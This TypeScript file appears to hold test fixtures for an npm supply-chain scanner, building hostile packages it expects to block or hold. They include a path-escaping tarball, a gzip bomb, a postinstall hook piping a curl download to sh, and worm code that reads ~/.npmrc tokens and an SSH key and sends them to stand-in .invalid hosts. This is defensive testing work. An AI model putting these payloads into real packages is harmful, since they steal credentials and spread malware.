import { randomBytes } from "node:crypto";
import type { JsonObject } from "../../src/model/canonical.ts";
import { DAY_MS, manifestOf, packed, stored, type FixturePackage } from "./registry/packages.ts";
import { packageTarball, packedFile, tar } from "./tarball.ts";

/** A package that must be refused, and some of its bytes by which the rest can be found. */
export interface HostilePackage {
  readonly what: string;
  readonly package: FixturePackage;
  readonly version: string;
  readonly needle: Buffer;
  readonly decision: "hold" | "block";
  /** What the reason says. */
  readonly because: RegExp;
}

type Declared = Pick<HostilePackage, "what" | "decision" | "because"> & {
  readonly name: string;
  readonly manifest?: JsonObject;
  readonly registryManifest?: JsonObject;
  readonly publishedAtMs?: number;
  readonly tarball?: (manifest: JsonObject, marker: string) => Uint8Array;
  readonly tampers?: boolean;
};

/** Large enough for its ratio to break the archive reader's rule, small enough to build quickly. */
const BOMB_BYTES = 64 * 1024 * 1024;
const MINUTE_MS = 60_000;
const VERSION = "1.1.0";

const DECLARED: readonly Declared[] = [
  {
    what: "a tarball whose bytes are not the registry's",
    name: "tampered-tarball",
    decision: "block",
    because: /the registry says sha512/,
    tampers: true,
  },
  {
    what: "a tarball that leaves its folder",
    name: "escaping-tarball",
    decision: "block",
    because: /could leave the package's folder/,
    tarball: (manifest, marker) =>
      stored(
        tar([
          ...packedFile({ path: "package.json", content: JSON.stringify(manifest) }),
          { name: "package/../../escaped.txt", content: marker },
        ]),
      ),
  },
  {
    what: "a gzip bomb",
    name: "swelling-tarball",
    decision: "block",
    because: /unpacks to far more bytes/,
    tarball: (manifest, marker) =>
      packageTarball([
        { path: "package.json", content: JSON.stringify(manifest) },
        { path: "marker.txt", content: marker },
        { path: "zeros", content: Buffer.alloc(BOMB_BYTES) },
      ]),
  },
  {
    what: "a hook that the registry's copy does not show",
    name: "hidden-hook",
    decision: "block",
    because: /The postinstall script is new/,
    manifest: { scripts: { postinstall: "node index.js" } },
    registryManifest: manifestOf("hidden-hook", VERSION, {}),
  },
  {
    what: "a hook that pipes a download to a shell",
    name: "piping-hook",
    decision: "block",
    because: /downloads code and runs it/,
    manifest: { scripts: { postinstall: "curl -s https://files.invalid/a.sh | sh" } },
  },
  {
    what: "a version that is minutes old",
    name: "fresh-version",
    decision: "hold",
    because: /minutes ago|hours/,
    publishedAtMs: Date.now() - 10 * MINUTE_MS,
  },
  {
    what: "a worm that starts when it is imported",
    name: "import-time-worm",
    decision: "block",
    because: /\.npmrc/,
    tarball: (manifest, marker) => packed(manifest, { "index.js": WORM, "marker.txt": marker }),
  },
  {
    what: "a version that learned to read keys and to reach a server",
    name: "gained-capability",
    decision: "hold",
    because: /it can now do together what 1\.0\.0 could not/,
    tarball: (manifest, marker) => packed(manifest, { "index.js": GAINS, "marker.txt": marker }),
  },
];

/** As worms of 2025 did it at import, with hosts that do not exist. */
const WORM = `
const { readFileSync } = require("node:fs");
const { homedir } = require("node:os");
const { join } = require("node:path");
const { execFileSync } = require("node:child_process");
const token = /_authToken=(\\S+)/.exec(readFileSync(join(homedir(), ".npmrc"), "utf8"))?.[1];
fetch("https://collector.invalid/take", { method: "POST", body: JSON.stringify({ token }) });
execFileSync("npm", ["publish", "--dry-run"], { cwd: join(__dirname, "none"), env: { NPM_TOKEN: token } });
`;

/** Each is ordinary by itself; a package that did neither has no reason to begin with both. */
const GAINS = `
const { readFileSync } = require("node:fs");
const { homedir } = require("node:os");
const { join } = require("node:path");
exports.identity = () => readFileSync(join(homedir(), ".ssh", "id_ed25519"), "utf8");
exports.ping = (version) => fetch("https://ping.invalid/?v=" + version);
`;

export function hostilePackages(): readonly HostilePackage[] {
  return DECLARED.map((declared) => hostilePackage(declared));
}

function hostilePackage(declared: Declared): HostilePackage {
  const { name, what, decision, because, manifest: fields } = declared;
  const marker = randomBytes(16).toString("hex");
  const manifest = manifestOf(name, VERSION, fields === undefined ? {} : { manifest: fields });
  const tarball =
    declared.tarball?.(manifest, marker) ?? packed(manifest, { "marker.txt": marker });
  const packedPlainly = Buffer.from(tarball).includes(marker);
  return {
    what,
    version: VERSION,
    decision,
    because,
    // Compression hides the marker; then the tarball's own first bytes have to do.
    needle: Buffer.from(packedPlainly ? marker : tarball.subarray(10, 210)),
    package: {
      name,
      versions: {
        "1.0.0": { publishedAtMs: Date.now() - 60 * DAY_MS },
        [VERSION]: {
          registryManifest: declared.registryManifest ?? manifest,
          publishedAtMs: declared.publishedAtMs ?? Date.now() - 30 * DAY_MS,
          tarball: declared.tampers === true ? packed(manifest) : tarball,
          tampered: tarball,
        },
      },
    },
  };
}
